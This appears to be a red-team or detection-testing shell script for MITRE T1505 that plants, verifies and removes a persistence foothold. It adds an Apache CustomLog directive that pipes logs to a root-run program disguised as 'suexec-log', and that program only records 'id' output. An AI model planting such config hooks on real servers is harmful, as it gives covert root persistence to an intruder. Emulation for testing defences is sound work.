#!/bin/sh
# T1505 (quiet): Apache starts a program for its log, as root
M=/var/tmp/luytre-foothold N=34-apache-log-pipe
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
plant() {
  w /etc/apache2/conf-available/other-log.conf <<'E'
CustomLog "|/usr/lib/apache2/suexec-log" combined
E
  x /usr/lib/apache2/suexec-log <<'E'
#!/bin/sh
mkdir -p /var/tmp/luytre-foothold/34-apache-log-pipe; rmdir /var/tmp/luytre-foothold/34-apache-log-pipe
id > /var/tmp/luytre-foothold/34-apache-log-pipe
exec cat >/dev/null
E
  ln -sf ../conf-available/other-log.conf /etc/apache2/conf-enabled/other-log.conf
}
prove() {
  rm -f "$M/$N"
  systemctl reset-failed apache2 2>/dev/null; systemctl restart apache2; sleep 1
  mv "$(ls -d /var/tmp/systemd-private-*apache2*/tmp/luytre-foothold/$N)" "$M/" 2>/dev/null; seen
}
remove() {
  rm -f /etc/apache2/conf-*/other-log.conf /usr/lib/apache2/suexec-log; systemctl reset-failed apache2 2>/dev/null; systemctl restart apache2
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
